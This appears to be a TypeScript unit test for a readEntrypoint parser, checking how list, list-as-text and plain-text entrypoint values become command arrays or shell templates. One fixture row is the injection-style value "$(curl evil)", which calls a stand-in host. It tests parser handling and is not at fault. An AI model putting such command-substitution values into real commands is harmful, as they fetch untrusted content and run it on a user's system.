import assert from "node:assert/strict";
import { test } from "node:test";
import { readEntrypoint } from "../../../src/families/ict/read-entrypoint.ts";

const ROWS: [unknown, unknown][] = [
  ["[python3, main.py]", { form: "list-as-text", run: { command: ["python3", "main.py"] } }],
  [`['python3', "main.py"]`, { form: "list-as-text", run: { command: ["python3", "main.py"] } }],
  ["[]", { form: "list-as-text", run: { command: [] } }],
  [["python3", "main.py"], { form: "list", run: { command: ["python3", "main.py"] } }],
  ["python3 -m tool.main", { form: "text", run: { command: ["python3", "-m", "tool.main"] } }],
  ["sh -c 'a && b'", { form: "text", run: { template: "sh -c 'a && b'" } }],
  ["$(curl evil)", { form: "text", run: { template: "$(curl evil)" } }],
  [[], undefined],
  ["", undefined],
  [{}, undefined],
];

for (const [value, expected] of ROWS) {
  test(`entrypoint ${JSON.stringify(value)}`, () => assert.deepEqual(readEntrypoint(value), expected));
}
